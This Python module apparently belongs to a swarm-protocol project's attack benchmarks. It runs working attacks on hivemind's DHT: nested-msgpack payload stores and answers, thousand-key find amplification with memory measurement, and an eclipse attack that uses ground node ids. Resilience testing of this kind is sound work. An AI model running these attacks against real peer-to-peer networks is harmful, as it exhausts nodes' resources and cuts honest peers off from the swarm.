"""Attacks on the DHT port with hivemind's own daemon, each in a process of its own.

    python -m benchmarks.attacks.dht store ADDRESS SWARM DEPTH EXT           nested msgpack, stored under a bucket's key
    python -m benchmarks.attacks.dht answer ADDRESS SWARM DEPTH EXT SECONDS  nested msgpack, as the answer to a find
    python -m benchmarks.attacks.dht find ADDRESS SWARM PID REQUESTS         one key a thousand times in one find
    python -m benchmarks.attacks.dht eclipse SWARM SECONDS KEYS ADDRESS...   node ids beside the buckets' keys

The last line of each is JSON: what was sent and what was asked. `answer` prints its address first; `eclipse` says ids
of no key, or with KEYS > 0 has so many daemons, each with a key ground until its id lies beside a bucket.
"""

from __future__ import annotations

import asyncio
import json
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack, suppress
from pathlib import Path
from typing import Any

import msgspec
from hivemind.dht.node import DHTID
from hivemind.p2p import P2P
from hivemind.proto import dht_pb2

from benchmarks.attacks.hostile import call, dht_peer, memory_mib, nested_ext
from swarm_protocol.codec import sign_card
from swarm_protocol.identity import Identity
from swarm_protocol.limits import MEMBERSHIP_BUCKETS
from swarm_protocol.messages import PROTOCOL_VERSION, PeerCard
from swarm_protocol.peers import peer_of
from swarm_protocol.topics import bucket_of, membership_key

CARDS = 20
"""Stored in one bucket before it is asked for a thousand times: 37 kB."""
SAID_AGAIN_S = 20.0
TRIES = 300
"""Keys made for one whose id lies beside a bucket's key: nearer than those of a hundred honest members."""


def bucket_key(swarm: str, bucket: int) -> bytes:
    return bytes(DHTID.generate(membership_key(swarm, bucket)).to_bytes())


async def store(address: str, swarm: str, depth: int, ext: int) -> dict[str, Any]:
    async with dht_peer(address) as (p2p, victim):
        outcomes = []
        for key in (bytes(20), bucket_key(swarm, 0)):
            request = dht_pb2.StoreRequest(
                keys=[key],
                subkeys=[b""],
                values=[nested_ext(depth, ext)],
                expiration_time=[time.time() + 30],
                in_cache=[False],
            )
            try:
                answer = await call(p2p, victim, "rpc_store", request, dht_pb2.StoreResponse, 8)
                outcomes.append(f"stored {sum(answer.store_ok)}")
            except Exception as error:
                outcomes.append(type(error).__name__)
        return {"bytes": request.ByteSize(), "outcomes": outcomes}


async def answer(address: str, swarm: str, depth: int, ext: int, seconds: float) -> dict[str, Any]:
    asked: Counter[str] = Counter()
    bad = dht_pb2.FindResult(
        type=dht_pb2.FOUND_DICTIONARY, value=nested_ext(depth, ext), expiration_time=time.time() + 600
    )

    def find(info: Any, request: Any, context: Any) -> Any:
        asked[str(context.remote_id)] += 1
        return dht_pb2.FindResponse(results=[bad] * len(request.keys), peer=info)

    async with AsyncExitStack() as stack:
        p2p, info = await _dht_server(stack, find)
        print(str((await p2p.get_visible_maddrs())[0]), flush=True)
        if address:
            victim = await _dial(p2p, address)
            await call(p2p, victim, "rpc_ping", dht_pb2.PingRequest(peer=info), dht_pb2.PingResponse)
        await asyncio.sleep(seconds)
        return {"asked": sum(asked.values()), "peers": len(asked)}


async def find(address: str, swarm: str, pid: int, requests: int) -> dict[str, Any]:
    async with dht_peer(address) as (p2p, victim):
        key, now, cards = bucket_key(swarm, 0), time.time(), []
        while len(cards) < CARDS:
            me = Identity.generate()
            if bucket_of(me.peer_id) == 0:
                ways = [f"/ip4/127.0.0.1/tcp/9/{'x' * 100}{i}/p2p/{me.peer_id}"[:192] for i in range(4)]
                cards.append((me.peer_id, sign_card(PeerCard(PROTOCOL_VERSION, swarm, now, "x", [], ways, ways), me)))
        stored = 0
        for peer, card in cards:
            request = dht_pb2.StoreRequest(
                keys=[key],
                subkeys=[msgspec.msgpack.encode(peer)],
                values=[msgspec.msgpack.encode(card)],
                expiration_time=[now + 50],
                in_cache=[False],
            )
            stored += sum((await call(p2p, victim, "rpc_store", request, dht_pb2.StoreResponse)).store_ok)
        before = most = memory_mib(pid)
        many = dht_pb2.FindRequest(keys=[key] * 1000, peer=dht_pb2.NodeInfo(node_id=bytes(20)))
        answered = 0
        for _ in range(requests):
            with suppress(Exception):
                answered += len((await call(p2p, victim, "rpc_find", many, dht_pb2.FindResponse, 3)).results) > 0
            most = max(most, memory_mib(pid))
        await asyncio.sleep(10)
        return {
            "stored": stored,
            "request_bytes": many.ByteSize(),
            "answered": answered,
            "mib_before": round(before),
            "mib_most": round(most),
            "mib_10_s_later": round(memory_mib(pid)),
        }


async def eclipse(swarm: str, seconds: float, keys: int, addresses: list[str]) -> dict[str, Any]:
    asked: Counter[str] = Counter()

    def nothing(info: Any, request: Any, context: Any) -> Any:
        asked["find"] += 1
        none = dht_pb2.FindResult(type=dht_pb2.NOT_FOUND)
        return dht_pb2.FindResponse(results=[none] * len(request.keys), peer=info)

    buckets = [int.from_bytes(bucket_key(swarm, b), "big") for b in range(MEMBERSHIP_BUCKETS)]
    async with AsyncExitStack() as stack:
        liars: list[tuple[Any, list[bytes]]] = []
        if keys:
            folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
            wanted = [buckets[bucket_of(peer_of(address))] for address in addresses]
            for i in range(keys):
                near = min((Identity.generate() for _ in range(TRIES)), key=_distance(wanted[i % len(wanted)]))
                near.save(folder / f"{i}.key")
                id = bytes(DHTID.generate(near.peer_id).to_bytes())
                p2p, _ = await _dht_server(stack, nothing, str(folder / f"{i}.key"), id, asked)
                liars.append((p2p, [id]))
        else:
            made_up = [(bucket ^ j).to_bytes(20, "big") for bucket in buckets for j in range(1, 11)]
            p2p, _ = await _dht_server(stack, nothing, None, made_up[0], asked)
            liars.append((p2p, made_up))
        victims = [(p2p, ids, [await _dial(p2p, address) for address in addresses]) for p2p, ids in liars]
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for p2p, ids, to in victims:
                for victim in to:
                    for id in ids:
                        request = dht_pb2.PingRequest(peer=dht_pb2.NodeInfo(node_id=id))
                        with suppress(Exception):
                            await call(p2p, victim, "rpc_ping", request, dht_pb2.PingResponse, 5)
            await asyncio.sleep(min(SAID_AGAIN_S, max(0.1, end - time.monotonic())))
    return {"daemons": len(liars), "stores_taken": asked["store"], "finds_answered_with_nothing": asked["find"]}


def _distance(key: int) -> Callable[[Identity], int]:
    return lambda identity: int(DHTID.generate(identity.peer_id)) ^ key


async def _dht_server(
    stack: AsyncExitStack,
    find: Callable[[Any, Any, Any], Any],
    identity: str | None = None,
    node_id: bytes = b"",
    asked: Counter[str] | None = None,
) -> tuple[Any, Any]:
    """A daemon that answers pings, takes cards to forget them, and answers finds as `find` says."""
    counted: Counter[str] = Counter() if asked is None else asked
    options: dict[str, Any] = {} if identity is None else {"identity_path": identity, "check_if_identity_free": False}
    p2p = await P2P.create(
        dht_mode="server",
        auto_nat=False,
        nat_port_map=False,
        use_relay=False,
        host_maddrs=["/ip4/127.0.0.1/tcp/0"],
        **options,
    )
    stack.push_async_callback(p2p.shutdown)
    info = dht_pb2.NodeInfo(node_id=node_id or DHTID.generate(str(p2p.peer_id)).to_bytes())

    async def rpc_ping(request: Any, context: Any) -> Any:
        return dht_pb2.PingResponse(peer=info, dht_time=time.time(), available=True)

    async def rpc_store(request: Any, context: Any) -> Any:
        counted["store"] += 1
        return dht_pb2.StoreResponse(store_ok=[True] * len(request.keys), peer=info)

    async def rpc_find(request: Any, context: Any) -> Any:
        return find(info, request, context)

    handlers: list[tuple[Callable[[Any, Any], Awaitable[Any]], Any]] = [
        (rpc_ping, dht_pb2.PingRequest),
        (rpc_store, dht_pb2.StoreRequest),
        (rpc_find, dht_pb2.FindRequest),
    ]
    for handler, kind in handlers:
        await p2p.add_protobuf_handler(f"DHTProtocol.{handler.__name__}", handler, kind)
    return p2p, info


async def _dial(p2p: Any, address: str) -> Any:
    from hivemind.p2p import PeerID
    from hivemind.utils.multiaddr import Multiaddr

    head, _, peer = address.rpartition("/p2p/")
    to = PeerID.from_base58(peer)
    await p2p._client.connect(to, [Multiaddr(head)])
    return to


async def main() -> None:
    what, *rest = sys.argv[1:]
    if what == "store":
        figures = await store(rest[0], rest[1], int(rest[2]), int(rest[3], 0))
    elif what == "answer":
        figures = await answer(rest[0], rest[1], int(rest[2]), int(rest[3], 0), float(rest[4]))
    elif what == "find":
        figures = await find(rest[0], rest[1], int(rest[2]), int(rest[3]))
    else:
        figures = await eclipse(rest[0], float(rest[1]), int(rest[2]), rest[3:])
    print(json.dumps(figures), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
